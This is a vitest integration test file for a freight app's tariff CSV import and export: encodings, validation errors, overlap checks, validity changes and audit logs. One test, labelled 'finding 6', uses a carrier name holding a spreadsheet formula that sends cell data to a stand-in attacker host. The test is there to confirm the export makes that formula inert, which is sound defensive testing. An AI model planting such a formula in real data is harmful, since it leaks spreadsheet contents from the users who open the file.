import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { istanbulToday } from '@/lib/domain/business-date';
import { formatDay } from '@/lib/format';
import { TARIFF_CSV_COLUMNS } from '@/lib/domain/tariff-csv';
import type { FreightSearchAnswer } from '@/lib/schemas/freight';
import { tariffImport, tariffPage, type TariffImport } from '@/lib/schemas/tariff';
import { startTestApi, type TestApi } from './harness';

let api: TestApi;
let operator = '';
let customer = '';

beforeAll(async () => {
  api = await startTestApi();
  const tokens = await api.demoTokens();
  operator = tokens.operator;
  customer = tokens.customer;
});
afterAll(async () => api?.close());

const day = (offset: number) => istanbulToday(offset);
const header = (separator: string) => TARIFF_CSV_COLUMNS.join(separator);
/** One line of the layout from named values (the rest empty). */
const line = (values: Record<string, string>, separator = ';') => TARIFF_CSV_COLUMNS.map((column) => values[column] ?? '').join(separator);
const csv = (lines: Record<string, string>[], separator = ';') => [header(separator), ...lines.map((values) => line(values, separator))].join('\r\n') + '\r\n';

const CARRIER = 'Çağrı Şile Denizcilik';
const lcl = { mode: 'SEA_LCL', carrier: CARRIER, origin: 'TRMER', destination: 'DEHAM', currency: 'USD', valid_from: day(0), valid_to: day(60), transit_days: '19', free_days: '7', lcl_per_revenue_ton: '45.50', lcl_minimum: '90' };
const air = { mode: 'AIR', carrier: CARRIER, origin: 'IST', destination: 'FRA', currency: 'EUR', valid_from: day(0), valid_to: day(30), transit_days: '2', free_days: '0', air_minimum: '75', air_normal: '4,10', air_45: '3.20', air_100: '2.9' };

async function upload(content: string | Buffer, fileName = 'tariffs.csv', token = operator) {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(typeof content === 'string' ? Buffer.from(content) : content)], { type: 'text/csv' }), fileName);
  return api.call('POST', '/api/Tariff/Upload', { form, bearer: token, headers: { 'Accept-Language': 'tr' } });
}
const uploaded = async (content: string | Buffer) => {
  const answer = await upload(content);
  expect(answer.status, answer.text).toBe(200);
  return tariffImport.parse(answer.json.data);
};
const confirm = (id: string) => api.call('POST', '/api/Tariff/ConfirmImport', { body: { id }, bearer: operator });
async function finished(id: string): Promise<TariffImport> {
  for (let attempt = 0; attempt < 200; attempt++) {
    const answer = await api.call('GET', `/api/Tariff/GetImport?id=${id}`, { bearer: operator });
    const state = tariffImport.parse(answer.json.data);
    if (state.status !== 'importing') return state;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('the import did not finish');
}
const storedCount = async (carrier: string) => Number((await api.sql<{ n: string }>(`select count(*) as n from tariffs where carrier = '${carrier}'`))[0]!.n);
const search = (mode: string, origin: string, destination: string) =>
  api.call('POST', '/api/Freight/Search', {
    body: { mode, origin, destination, readyDate: day(1), orderDimensionList: [{ packageType: 'PALLET', length: 120, width: 80, height: 100, dimensionUnit: 'cm', weight: 300, weightUnit: 'kg', count: 2 }] },
  });
const carriersOf = (answer: Awaited<ReturnType<typeof search>>) => (answer.json.data as FreightSearchAnswer).offers.map((offer) => offer.carrier);

describe('tariff CSV import (dry run, confirm, progress)', () => {
  let firstImport = '';

  it('dry-runs a UTF-8 file with Turkish letters (BOM, `;`) and imports nothing before the confirmation', async () => {
    const report = await uploaded(`\uFEFF${csv([lcl, air])}`);
    expect(report).toMatchObject({ status: 'validated', encoding: 'utf-8', totalRows: 2, validRows: 2, badRows: 0, importedRows: 0, report: [] });
    firstImport = report.id;
    expect(await storedCount(CARRIER)).toBe(0);
    expect(carriersOf(await search('SEA_LCL', 'TRMER', 'DEHAM'))).not.toContain(CARRIER);
  });

  it('imports on confirmation with progress and an audit trail; the freight search then finds the tariff', async () => {
    // Two confirmations at once: exactly one starts the import.
    const answers = await Promise.all([confirm(firstImport), confirm(firstImport)]);
    expect(answers.map((answer) => answer.status).sort()).toEqual([200, 409]);
    const started = answers.find((answer) => answer.status === 200)!;
    expect(tariffImport.parse(started.json.data).status).toBe('importing');
    const done = await finished(firstImport);
    expect(done).toMatchObject({ status: 'imported', importedRows: 2 });
    const rows = await api.sql<{ id: string; rates: unknown; demo: boolean }>(`select id, rates, demo from tariffs where carrier = '${CARRIER}' order by mode`);
    expect(rows.map((row) => row.rates)).toEqual([
      { minimum: 7500, breaks: [{ fromKg: 0, perKg: 410 }, { fromKg: 45, perKg: 320 }, { fromKg: 100, perKg: 290 }] },
      { perRevenueTon: 4550, minimum: 9000 },
    ]);
    expect(rows.every((row) => /^T-\d{7,}$/.test(row.id) && row.demo === false)).toBe(true);
    expect(carriersOf(await search('SEA_LCL', 'TRMER', 'DEHAM'))).toContain(CARRIER);
    expect(carriersOf(await search('AIR', 'IST', 'FRA'))).toContain(CARRIER);
    const audit = await api.sql<{ action: string }>(`select action from audit_log where entity = 'tariffImport' and entity_id = '${firstImport}' order by id`);
    expect(audit.map((row) => row.action)).toEqual(['tariff.import.dryRun', 'tariff.import.confirm', 'tariff.import.complete']);
  });

  it('refuses a second confirmation of the same import (409)', async () => {
    const again = await confirm(firstImport);
    expect(again.status).toBe(409);
    expect(again.json.code).toBe('tariffs.import.alreadyConfirmed');
    expect(await storedCount(CARRIER)).toBe(2);
  });

  it('resumes a stalled import after the lines it already stored', async () => {
    const carrier = 'Kesintili Hat';
    const report = await uploaded(csv([{ ...lcl, carrier }, { ...air, carrier }, { ...lcl, carrier, destination: 'NLRTM' }]));
    // As if a process had stored the first line and stopped three minutes ago.
    await api.sql(`update tariff_imports set status = 'importing', imported_rows = 1, updated_at = now() - interval '3 minutes' where id = '${report.id}'`);
    expect((await confirm(report.id)).status).toBe(200);
    expect(await finished(report.id)).toMatchObject({ status: 'imported', importedRows: 3 });
    expect((await api.sql<{ destination: string }>(`select destination from tariffs where carrier = '${carrier}' order by destination`)).map((row) => row.destination)).toEqual(['FRA', 'NLRTM']);
  });

  it('accepts a Windows-1254 file (`,` separated) and keeps its Turkish letters', async () => {
    const carrier = 'Işıklı Güneş Taşımacılık';
    const bytes = iconv.encode(csv([{ ...lcl, mode: 'ROAD', carrier, origin: 'TRIST', lcl_per_revenue_ton: '', lcl_minimum: '', road_per_van: '2450' }], ','), 'windows-1254');
    expect(bytes.includes(Buffer.from('ı', 'utf8'))).toBe(false);
    const report = await uploaded(bytes);
    expect(report).toMatchObject({ status: 'validated', encoding: 'windows-1254', totalRows: 1, badRows: 0 });
    await confirm(report.id);
    expect((await finished(report.id)).status).toBe('imported');
    const list = tariffPage.parse((await api.call('POST', '/api/Tariff/GetList', { body: { carrier: 'ışıklı', mode: 'ROAD' }, bearer: operator })).json.data);
    expect(list.items.map((item) => item.carrier)).toEqual([carrier]);
  });

  it('reports wrong columns as a header error and cannot be confirmed', async () => {
    const report = await uploaded('mode;carrier;price;origin\nSEA_LCL;X;10;TRMER\n');
    expect(report.status).toBe('invalid');
    expect(report.report).toHaveLength(1);
    expect(report.report[0]!.line).toBe(1);
    expect(report.report[0]!.errors).toEqual(expect.arrayContaining([{ field: 'price', code: 'unknownColumn' }, { field: 'destination', code: 'missingColumn' }]));
    const refused = await confirm(report.id);
    expect(refused.status).toBe(409);
    expect(refused.json.code).toBe('tariffs.import.notClean');
  });

  it('lists each bad line: negative price, overlap within the file and with a stored tariff', async () => {
    const carrier = 'Marmara Aktarma';
    const before = await storedCount(carrier);
    const report = await uploaded(
      csv([
        { ...lcl, carrier, lcl_minimum: '-90' },
        { ...lcl, carrier, destination: 'NLRTM', valid_to: day(20) },
        { ...lcl, carrier, destination: 'NLRTM', valid_from: day(20), valid_to: day(40) },
        { ...lcl },
        { ...lcl, carrier, destination: 'NLRTM', valid_from: day(21), valid_to: day(40) },
        { ...lcl, carrier, valid_from: day(10), valid_to: day(5) },
      ]),
    );
    expect(report).toMatchObject({ status: 'invalid', totalRows: 6, validRows: 2, badRows: 4 });
    expect(report.report).toEqual([
      { line: 2, errors: [{ field: 'lcl_minimum', code: 'negative' }] },
      { line: 4, errors: [{ field: 'valid_from', code: 'overlapInFile' }] },
      { line: 5, errors: [{ field: 'valid_from', code: 'overlapExisting' }] },
      { line: 7, errors: [{ field: 'valid_to', code: 'validFromAfterValidTo' }] },
    ]);
    expect((await confirm(report.id)).status).toBe(409);
    expect(await storedCount(carrier)).toBe(before);
  });

  it('finds the overlap whatever the carrier’s Turkish capitals', async () => {
    const report = await uploaded(csv([{ ...air, carrier: 'ÇAĞRI ŞİLE DENİZCİLİK', valid_from: day(30), valid_to: day(40) }]));
    expect(report.report).toEqual([{ line: 2, errors: [{ field: 'valid_from', code: 'overlapExisting' }] }]);
  });

  it('keeps the upload to operations', async () => {
    expect((await upload(csv([lcl]), 'x.csv', customer)).status).toBe(403);
  });
});

describe('finding 6 (low): CSV formula injection through a carrier name', () => {
  it('a carrier named =HYPERLINK(…) imports, and the export writes it inert; imported again it is the same name', async () => {
    const carrier = '=HYPERLINK("https://evil.example/?"&A1,"Fiyat")';
    const report = await uploaded(csv([{ ...lcl, carrier, origin: 'TRIST', valid_from: day(0), valid_to: day(10) }]));
    expect(report.report).toEqual([]);
    expect((await confirm(report.id)).status).toBe(200);
    expect((await finished(report.id)).status).toBe('imported');
    const answer = await api.call('GET', `/api/Tariff/Export?carrier=${encodeURIComponent('HYPERLINK')}&validOn=${day(1)}`, { bearer: operator });
    const lines = answer.bytes.toString('utf8').slice(1).trim().split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`;"'=HYPERLINK(""https://evil.example/?""&A1,""Fiyat"")";`);
    expect(lines[1]!.split(';').some((cell) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false);
    const again = await uploaded(answer.bytes);
    // The same name read back: the only report is the overlap with the stored original.
    expect(again.report).toEqual([{ line: 2, errors: [{ field: 'valid_from', code: 'overlapExisting' }] }]);
  });
});

describe('tariff export and validity', () => {
  it('exports the layout as UTF-8 with BOM that imports back to the same tariffs', async () => {
    const answer = await api.call('GET', `/api/Tariff/Export?carrier=${encodeURIComponent('Çağrı')}&validOn=${day(1)}`, { bearer: operator });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toContain('text/csv');
    expect([...answer.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = answer.bytes.toString('utf8').slice(1).trim().split('\r\n');
    expect(lines[0]).toBe(header(';'));
    expect(lines).toHaveLength(3);
    expect(lines.join('\n')).toContain(`SEA_LCL;${CARRIER};TRMER;DEHAM;USD;${day(0)};${day(60)};19;7;;45.50;90.00`);
    // Uploaded again, every line parses; only the overlap with the stored originals is reported.
    const report = await uploaded(answer.bytes);
    expect(report.totalRows).toBe(2);
    expect(report.report.flatMap((bad) => bad.errors.map((error) => error.code))).toEqual(['overlapExisting', 'overlapExisting']);
  });

  it('ends a tariff early and extends it unless that overlaps, audited', async () => {
    const [tariff] = await api.sql<{ id: string }>(`select id from tariffs where carrier = '${CARRIER}' and mode = 'SEA_LCL'`);
    const change = (validTo: string) => api.call('POST', '/api/Tariff/ChangeValidity', { body: { id: tariff!.id, validTo }, bearer: operator });

    const ended = await change(day(10));
    expect(ended.status, ended.text).toBe(200);
    expect(ended.json.data).toMatchObject({ id: tariff!.id, validTo: day(10) });
    expect((await change(day(-1))).json.errors?.[0]?.code).toBe('tariffs.validity.inPast');
    expect((await change('2000-01-01')).status).toBe(400);

    await api.sql(
      `insert into tariffs (id, mode, carrier, origin, destination, currency, valid_from, valid_to, transit_days, free_days, rates) values ('T-9000001', 'SEA_LCL', '${CARRIER}', 'TRMER', 'DEHAM', 'USD', '${day(20)}', '${day(50)}', 19, 7, '{"perRevenueTon": 5000, "minimum": 9000}')`,
    );
    const overlapping = await change(day(25));
    expect(overlapping.status).toBe(409);
    expect(overlapping.json.code).toBe('tariffs.validity.overlap');
    expect((await change(day(15))).status).toBe(200);
    const early = await api.call('POST', '/api/Tariff/ChangeValidity', { body: { id: 'T-9000001', validTo: day(19) }, bearer: operator, headers: { 'Accept-Language': 'tr' } });
    expect(early.json.errors).toEqual([expect.objectContaining({ field: 'validTo', code: 'tariffs.validity.beforeValidFrom', message: `Son gün, tarifenin ilk gününden (${formatDay(day(20), 'tr', 'longDay')}) önce olamaz.` })]);

    const audit = await api.sql<{ action: string; before: { validTo: string }; after: { validTo: string } }>(`select action, before, after from audit_log where entity = 'tariff' and entity_id = '${tariff!.id}' order by id`);
    expect(audit).toEqual([
      { action: 'tariff.validity.end', before: { validTo: day(60) }, after: { validTo: day(10) } },
      { action: 'tariff.validity.extend', before: { validTo: day(10) }, after: { validTo: day(15) } },
    ]);
  });

  it('lists tariffs with filters and paging', async () => {
    const list = async (body: Record<string, unknown>) => tariffPage.parse((await api.call('POST', '/api/Tariff/GetList', { body, bearer: operator })).json.data);
    const lane = await list({ origin: 'TRMER', destination: 'DEHAM', carrier: 'çağrı', pageSize: 1 });
    expect(lane.totalCount).toBe(2);
    expect(lane.items).toHaveLength(1);
    expect((await list({ carrier: 'çağrı', state: 'expired' })).totalCount).toBe(0);
    expect((await list({ carrier: 'çağrı', validOn: day(45) })).items.map((item) => item.id)).toEqual(['T-9000001']);
  });
});
